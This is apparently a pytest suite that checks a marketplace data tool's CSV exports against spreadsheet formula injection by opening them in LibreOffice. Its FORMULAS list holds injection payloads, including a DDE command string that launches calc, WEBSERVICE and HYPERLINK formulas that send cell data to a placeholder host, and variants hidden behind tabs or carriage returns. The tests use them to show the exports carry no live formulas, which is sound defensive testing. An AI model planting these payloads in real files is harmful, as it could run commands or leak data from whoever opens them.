"""What a spreadsheet makes of the tables: LibreOffice opens them, and finds no formula and every number (6.5)."""

import csv
import json
import os
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree

import pytest

pytestmark = [pytest.mark.spreadsheet, pytest.mark.needs("soffice")]

AS_OF = "2024-08-31"
# Texts that a spreadsheet would compute, ask a program for, or send away.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|'/C calc'!A0", '=HYPERLINK("http://pages.invalid/"&A1;"x")',
    '=WEBSERVICE("http://pages.invalid/")', "\t=1+1", "\r=1+1", "=1+1,\n=2+2", "'=1+1", '"=1+1', "= 1 + 1", "-2+3+cmd|x!A1",
    "=DDE(\"soffice\";\"x\";\"y\")",
]
NAMES = {
    "table": "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}",
    "office": "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}",
    "text": "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}",
}
CONTRACTS = "contract_id,freelancer_id,agency_id,client_id,title,status,started_on,ended_on,earnings".split(",")
FEEDBACK = "feedback_id,contract_id,author,kind,submitted_at,public_score,private_score,comment,response,responded_at".split(",")


def write(path, rows):
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows(rows)


def write_market(folder):
    """Sound contracts whose texts are formulas, and for each formula records that it makes unsound, column by column."""
    contracts, feedback = [CONTRACTS], [FEEDBACK]
    for number, text in enumerate(FORMULAS):
        sound = [f"ct-{number}", "fl-wren", "", f"cl-{number}", text, "ended", "2024-07-01", "2024-08-20", "300.00"]
        contracts.append(sound)
        feedback.append([f"fb-{number}", f"ct-{number}", "client", "final", "2024-08-21", "2.00", "3", text, "", ""])
        for column in [0, 1, 2, 3, 5, 6, 8]:
            contracts.append([f"x{number}-{column}"] + sound[1:])
            contracts[-1][column] = text
        for column in [0, 1, 2, 3, 4, 5, 6, 9]:
            feedback.append([f"y{number}-{column}"] + feedback[1][1:])
            feedback[-1][column] = text
    write(folder / "contracts.csv", contracts)
    write(folder / "feedback.csv", feedback)


def read_sheet(path):
    """The cells of a flat spreadsheet's one table: of each its formula, the type of its value, and its text."""
    rows = []
    for row in ElementTree.parse(path).iter(NAMES["table"] + "table-row"):
        cells = []
        for cell in row.iter(NAMES["table"] + "table-cell"):
            found = (
                cell.get(NAMES["table"] + "formula"), cell.get(NAMES["office"] + "value-type"),
                "\n".join("".join(line.itertext()) for line in cell.iter(NAMES["text"] + "p")),
            )
            cells += [found] * min(int(cell.get(NAMES["table"] + "number-columns-repeated", 1)), 64)
        rows += [cells] * min(int(row.get(NAMES["table"] + "number-rows-repeated", 1)), 2)
    return rows


class Opened:
    """The tables of runs and commands over the market of formulas, as they are and as LibreOffice reads them."""

    def __init__(self, program, folder):
        self.program, self.folder, self.tables = program, folder, folder / "tables"
        market, out = folder / "market", folder / "out"
        market.mkdir()
        self.tables.mkdir()
        write_market(market)
        self.jss("run", market, "--out", out, "--pages", "0")
        self.jss("run", market, "--out", folder / "talent", "--pages", "0", "--audience", "talent")
        self.jss("run", market, "--out", folder / "strict", "--strict", code=65)
        self.package = json.loads((out / "latest/datapackage.json").read_text(encoding="utf-8"))
        places = {"": out / "latest", "talent-": folder / "talent/latest", "failed-": folder / "strict/failed"}
        for prefix, place in places.items():
            for table in place.glob("*.csv"):
                shutil.copy(table, self.tables / (prefix + table.name))
        for name in ["validate", "score", "actions"]:
            (self.tables / f"answer-{name}.csv").write_bytes(self.jss(name, market))
        write(self.tables / "unguarded.csv", [["text", "number"]] + [[text, "-1.5"] for text in FORMULAS])
        self.sheets = self.convert(sorted(self.tables.glob("*.csv")))

    def jss(self, command, market, *arguments, code=0):
        reading = [] if "--strict" in arguments else ["--max-rejects", "100%"]
        day = [] if command == "validate" else ["--as-of", AS_OF]
        done = subprocess.run(
            [self.program, command, market, *arguments, *reading, *day, "--quiet"], capture_output=True, check=False
        )
        assert done.returncode == code, done.stderr.decode()
        return done.stdout

    def convert(self, tables):
        """Each table as LibreOffice reads it, all in one start of it."""
        profile = (self.folder / "profile").as_uri()
        subprocess.run(
            ["soffice", "--headless", f"-env:UserInstallation={profile}", "--convert-to", "fods", "--outdir",
             str(self.folder / "sheets"), *map(str, tables)],
            capture_output=True, check=True, timeout=300, env=os.environ | {"HOME": str(self.folder)},
        )
        return {table.name: read_sheet(self.folder / "sheets" / (table.stem + ".fods")) for table in tables}

    def plain(self, name):
        with open(self.tables / name, encoding="utf-8", newline="") as file:
            return list(csv.reader(file))


@pytest.fixture(scope="module")
def opened(jss, tmp_path_factory):
    return Opened(jss, tmp_path_factory.mktemp("spreadsheet"))


def test_it_would_compute_what_is_not_guarded(opened):
    formulas = [cell for row in opened.sheets["unguarded.csv"] for cell in row if cell[0]]
    assert len(formulas) >= 6


def test_no_table_holds_a_formula(opened):
    assert len(opened.sheets) >= 16
    for name, sheet in opened.sheets.items():
        if name != "unguarded.csv":
            assert [cell for row in sheet for cell in row if cell[0]] == [], name


def test_hostile_text_did_get_there(opened):
    for name in ["rejects.csv", "failed-rejects.csv", "answer-validate.csv"]:
        rows = opened.plain(name)[1:]
        assert len(rows) > 10 * len(FORMULAS)
        records = [record for *_, record in rows if record.lstrip("'\"")[:1] in "=+-@\t\r"]
        assert len(records) > len(FORMULAS)
        assert [record for record in records if record[:1] not in "'\""] == []


def test_numbers_stay_numbers_and_text_stays_text(opened):
    numbers = 0
    for resource in opened.package["resources"]:
        rows, sheet = opened.plain(resource["path"]), opened.sheets[resource["path"]]
        assert [cell[2] for cell in sheet[0]][: len(rows[0])] == rows[0]
        if resource["path"] == "rejects.csv":
            continue  # lines within cells: rows of the sheet are the same, its text is checked above
        for row, cells in zip(rows[1:], sheet[1:]):
            for value, field, (_, kind, text) in zip(row, resource["schema"]["fields"], cells):
                if not value:
                    continue
                if field["type"] in ("integer", "number"):
                    assert kind == "float", (resource["path"], field["name"], value)
                    numbers += 1
                elif field["type"] == "string":
                    assert (kind, text) == ("string", value)
    assert numbers > 200
